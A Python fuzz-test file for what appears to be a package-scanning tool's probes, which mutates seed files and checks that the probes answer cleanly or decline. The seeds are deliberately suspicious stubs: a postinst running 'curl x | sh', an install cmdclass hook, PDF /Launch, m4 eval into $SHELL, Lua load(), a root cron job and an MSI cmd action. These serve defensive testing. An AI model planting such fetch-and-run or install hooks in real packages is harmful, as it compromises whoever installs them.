"""Mutated files of every kind these probes read: they answer, or say that they cannot; nothing else."""

from __future__ import annotations

import base64
import gzip
import json
import pickle
import struct
import zlib
from contextlib import suppress
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from doorward.inspect.probes.build_files import BuildFilesProbe
from doorward.inspect.probes.data import DataProbe
from doorward.inspect.probes.data_code import DataCodeProbe
from doorward.inspect.probes.hooks import HooksProbe
from doorward.inspect.probes.interface import CannotRead, Probe, Subject
from doorward.inspect.probes.manifest import ManifestProbe
from doorward.inspect.probes.media import MediaProbe
from doorward.inspect.probes.pickles import PicklesProbe
from doorward.inspect.probes.reach import ReachProbe
from tests.samples.subjects import noise

PROBES: tuple[Probe, ...] = (
    BuildFilesProbe(),
    DataProbe(),
    DataCodeProbe(),
    HooksProbe(),
    ManifestProbe(),
    MediaProbe(),
    PicklesProbe(),
    ReachProbe(),
)


def png() -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    header = struct.pack(">IIBBBBB", 2, 2, 8, 2, 0, 0, 0)
    text = chunk(b"zTXt", b"a\x00\x00" + zlib.compress(b"text"))
    rows = chunk(b"IDAT", zlib.compress(bytes(14)))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + text + rows + chunk(b"IEND", b"")


PACKAGE = {
    "name": "x",
    "scripts": {"install": "node a.js"},
    "dependencies": {"a": "git+https://x.test/a", "b": "npm:c@1"},
    "bin": {"x": "x.js"},
}
SEEDS: tuple[tuple[str, bytes], ...] = (
    ("a.png", png()),
    ("a.jpg", b"\xff\xd8\xff\xe0\x00\x04ab\xff\xfe\x00\x08commen\xff\xda\x00\x04ab\x12\x34\xff\xd9tail"),
    ("a.gif", b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(6) + b"\x21\xfe\x03abc\x00\x3b"),
    ("a.wav", b"RIFF\x24\x00\x00\x00WAVEfmt \x10\x00\x00\x00" + bytes(16) + b"data\x04\x00\x00\x00abcd"),
    ("a.ogg", b"OggS" + bytes(22) + b"\x01\x04data"),
    ("a.pdf", b"%PDF-1.4\n/JS (a) /Launch\n%%EOF\n"),
    ("a.ttf", b"\x00\x01\x00\x00\x00\x01" + bytes(6) + b"glyf" + struct.pack(">III", 0, 28, 4) + bytes(4)),
    ("a.woff2", b"wOF2\x00\x01\x00\x00" + struct.pack(">I", 48) + bytes(36)),
    ("a.ico", b"\x00\x00\x01\x00\x01\x00" + bytes(8) + struct.pack("<II", 4, 22) + b"abcd"),
    ("a.bmp", b"BM" + struct.pack("<IIIIiiHHI", 58, 0, 54, 40, 1, 1, 1, 24, 0) + bytes(28)),
    ("a.mp4", b"\x00\x00\x00\x10ftypisom" + bytes(4) + b"\x00\x00\x00\x10free" + bytes(8)),
    ("a.db", b"SQLite format 3\x00\x02\x00" + bytes(10) + struct.pack(">I", 1) + bytes(600)),
    ("a.flac", b"fLaC\x01\x00\x00\x04abcd\x82\x00\x00\x04abcd\xff\xf8"),
    ("a.pkl", pickle.dumps({"a": [1, {2}, b"x"], "b": (print, 1.5)})),
    ("a.npy", b"\x93NUMPY\x01\x00\x20\x00{'descr': '|O', }\n" + pickle.dumps([1])),
    ("a.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x03\x01\x00\x01a\x07\x00\x01"),
    ("a.wasm", b"\x00asm\x01\x00\x00\x00\x02\x08\x01\x01e\x01f\x02\x01\x01\x02"),
    ("a.txt", b'x = "' + base64.b64encode(noise(300)) + b'" https://a.example/ 203.0.113.9\n'),
    ("a.dat", bytes(100) + gzip.compress(b"abc" * 50) + noise(300)),
    ("a.svg", b"<svg><script>x</script></svg>"),
    ("x.pth", b"import os\n./x\n"),
    ("x-1/setup.py", b"from setuptools import setup\nsetup(cmdclass={'install': X})\n"),
    ("x-1/pyproject.toml", b'[project]\nname = "x"\ndependencies = ["a @ https://x.test"]\n'),
    ("x-1/setup.cfg", b"[options.entry_points]\nconsole_scripts =\n  x = y:z\n"),
    ("x-1.dist-info/METADATA", b"Name: x\nRequires-Dist: a; extra == 'b'\nAuthor-email: a@b.example\n\n"),
    ("x-1.dist-info/entry_points.txt", b"[console_scripts]\nx = y:z\n"),
    ("package/package.json", json.dumps(PACKAGE).encode()),
    ("package/binding.gyp", b"{'targets': [{'action': ['a']}]}"),
    ("control.tar.xz!/postinst", b"#!/bin/sh\nset -e\ncurl x | sh\nexit 0\n"),
    ("control.tar.xz!/control", b"Package: x\nDepends: a (>= 1), b | c\n"),
    (".rpm/header.json", b'{"requires": ["a", "b >= 1"], "url": "https://x.example/"}'),
    (".msi/CustomAction.tsv", b"Run\t1058\tBIN\tcmd\n"),
    ("etc/cron.d/x", b"* * * * * root x\n"),
    ("Library/LaunchAgents/x.plist", b"<plist><dict><key>Program</key><string>x</string></dict></plist>"),
    ("x/m4/a.m4", b"AC_DEFUN([a], [eval `echo $x | tr abc cab` | $SHELL])\n"),
    ("a.lua", b"-- x\nload(y)()\n"),
)


def ask(folder: Path, path: str, data: bytes) -> None:
    file = folder / "content"
    file.write_bytes(data)
    for probe in PROBES:
        subject = Subject(path, file, len(data))
        if probe.accepts(path, subject.head):
            declared = {kind.name for kind in probe.kinds}
            with suppress(CannotRead):
                for trait in probe.examine(subject):
                    assert trait.kind in declared
                    assert trait.count >= 1
                    assert len(trait.key) <= 2000
                    assert (trait.key + trait.evidence.excerpt).encode()


@pytest.mark.parametrize(("path", "data"), SEEDS, ids=[path for path, _ in SEEDS])
def test_cut_anywhere(tmp_path: Path, path: str, data: bytes) -> None:
    for size in range(0, len(data), max(1, len(data) // 60)):
        ask(tmp_path, path, data[:size])


CHANGES = st.lists(st.tuples(st.floats(0, 1, exclude_max=True), st.integers(0, 255)), min_size=1, max_size=12)


@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(seed=st.sampled_from(SEEDS), changes=CHANGES, tail=st.binary(max_size=40))
def test_bytes_changed_anywhere(
    tmp_path: Path, seed: tuple[str, bytes], changes: list[tuple[float, int]], tail: bytes
) -> None:
    path, data = seed
    mutated = bytearray(data)
    for place, value in changes:
        mutated[int(place * len(mutated))] = value
    ask(tmp_path, path, bytes(mutated) + tail)


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=st.sampled_from([path for path, _ in SEEDS]), data=st.binary(max_size=300))
def test_anything_under_any_name(tmp_path: Path, path: str, data: bytes) -> None:
    ask(tmp_path, path, data)


@settings(max_examples=50, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(path=st.sampled_from([path for path, _ in SEEDS]), text=st.text(max_size=200))
def test_any_text_under_any_name(tmp_path: Path, path: str, text: str) -> None:
    ask(tmp_path, path, text.encode("utf-8", "surrogatepass"))
